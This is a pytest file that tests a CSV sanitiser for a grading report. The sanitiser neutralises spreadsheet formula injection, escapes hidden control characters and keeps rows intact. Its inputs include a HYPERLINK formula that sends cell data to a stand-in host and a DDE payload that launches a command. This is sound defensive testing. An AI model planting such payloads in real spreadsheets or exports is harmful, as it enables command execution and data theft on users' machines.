"""A spreadsheet that opens the table shows text, and computes none of it."""

import csv
import io

import pytest

from grader.report.csv_text import csv_cell, csv_table


@pytest.mark.parametrize(
    "text",
    [
        pytest.param('=HYPERLINK("http://x.test/"&A1)', id="link"),
        pytest.param("=cmd|' /C calc'!A0", id="DDE"),
        pytest.param("+1+1", id="plus"),
        pytest.param("-2+3", id="minus"),
        pytest.param("@SUM(A1)", id="at"),
        pytest.param("  =1+1", id="after space"),
        pytest.param("\u00a0=1+1", id="after a no-break space"),
        pytest.param("＝1+1", id="full width"),
        pytest.param("|calc", id="pipe"),
    ],
)
def test_formulas_become_text(text: str) -> None:
    """An apostrophe comes before it, and all of it can still be read."""
    assert csv_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        pytest.param("\t=1+1", "\\t=1+1", id="tab"),
        pytest.param("\r=1+1", "\\r=1+1", id="carriage return"),
        pytest.param("\n=1+1", "\\n=1+1", id="line feed"),
        pytest.param("\x00=1", "\\x00=1", id="NUL"),
        pytest.param("\ufeff=1", "\\ufeff=1", id="byte order mark"),
        pytest.param("\u200b=1", "\\u200b=1", id="zero width"),
        pytest.param("\x1b[31m", "\\x1b[31m", id="ANSI"),
    ],
)
def test_what_is_hidden_before_a_formula_is_shown(text: str, shown: str) -> None:
    """Then the escape is the beginning, and no formula."""
    assert csv_cell(text) == shown


@pytest.mark.parametrize("text", ["jane-doe", "a=b", "users.create", "", "3.5", "Zoë 漢字", "'quoted'"])
def test_other_text_stays_as_it_is(text: str) -> None:
    """Nothing is changed without need."""
    assert csv_cell(text) == text


def test_a_cell_is_bounded() -> None:
    """Megabytes are cut, and say so."""
    assert csv_cell("x" * 5_000_000).endswith("(4,999,000 characters left out)")


def test_a_table_survives_a_reader_whatever_is_in_it() -> None:
    """Quotes, separators and line ends begin no new cell and no new row, with either separator."""
    hostile = ['a","b', "a;=1+1;b", "two\nrows", "=1", "'", '"']
    table = csv_table([["name", "score"], *([text, 82.5] for text in hostile), ["none", None]])
    for delimiter in ",;":
        rows = list(csv.reader(io.StringIO(table), delimiter=delimiter))
        assert len(rows) == len(hostile) + 2
    assert list(csv.reader(io.StringIO(table)))[1:3] == [['a","b', "82.5"], ["a;=1+1;b", "82.5"]]
    assert not [line for line in table.splitlines() if ";=" in line and not line.startswith('"')]
